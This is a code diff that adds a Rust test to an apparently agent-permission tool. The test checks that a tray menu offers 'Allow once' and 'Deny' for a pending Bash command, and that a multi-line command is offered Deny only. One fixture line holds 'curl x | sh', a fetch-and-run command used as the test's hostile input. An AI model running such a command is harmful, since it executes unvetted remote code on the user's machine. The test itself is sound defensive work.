@@ -368,10 +368,58 @@ except Exception as e:
     let said = String::from_utf8_lossy(&output.stdout);
     assert!(
         said.starts_with("refused:") || said.contains("answered: b''"),
-        "{said} {}", String::from_utf8_lossy(&output.stderr)
+        "{said} {}",
+        String::from_utf8_lossy(&output.stderr)
     );
     assert!(!said.contains("waiting"), "{said}");
     // Nothing waits: the session offers no answer through a hook.
     let live: serde_json::Value = serving.client.get_json("/sessions/live").unwrap();
     assert!(!live.to_string().contains("Allow once"), "{live}");
+}
+
+#[test]
+fn a_waiting_hook_makes_the_tray_and_notifications_offer_allow_once_and_deny() {
+    use slate::model::{HookDecision, PendingCall, Status};
+    use slate::policy::menu::{answer_entries, Entry};
+    use slate::policy::notifications::Offer;
+    let waiting = |lines: &[&str]| HookDecision {
+        fingerprint: "0123456789abcdef".into(),
+        summary: format!("Run: {}", lines[0]),
+        detail: lines.iter().map(|line| line.to_string()).collect(),
+        call: PendingCall {
+            id: "0123456789abcdef".into(),
+            name: "Bash".into(),
+            input: Some(lines.join("\n")),
+            cut: false,
+        },
+    };
+    let mut session = crate::util::wire_session(
+        "acme-api",
+        "s1",
+        Status::Waiting,
+        "permission_prompt",
+        "Asks permission: Bash: touch x",
+    );
+    session.dialog = Some(waiting(&["touch x"]).dialog());
+    let offer = Offer::of(&session).expect("an offer");
+    assert!(offer.allow);
+    assert_eq!(offer.fingerprint, "0123456789abcdef");
+    let labels: Vec<String> = answer_entries(session.key(), session.dialog.as_ref().unwrap())
+        .into_iter()
+        .filter_map(|entry| match entry {
+            Entry::Item { label, .. } => Some(label),
+            _ => None,
+        })
+        .collect();
+    assert!(
+        labels.iter().any(|label| label.contains("Allow once")),
+        "{labels:?}"
+    );
+    assert!(
+        labels.iter().any(|label| label.contains("Deny")),
+        "{labels:?}"
+    );
+    // A command of more lines than the summary shows: Deny only, never a blind approval.
+    session.dialog = Some(waiting(&["touch x &&", "curl x | sh"]).dialog());
+    assert!(!Offer::of(&session).expect("an offer").allow);
 }
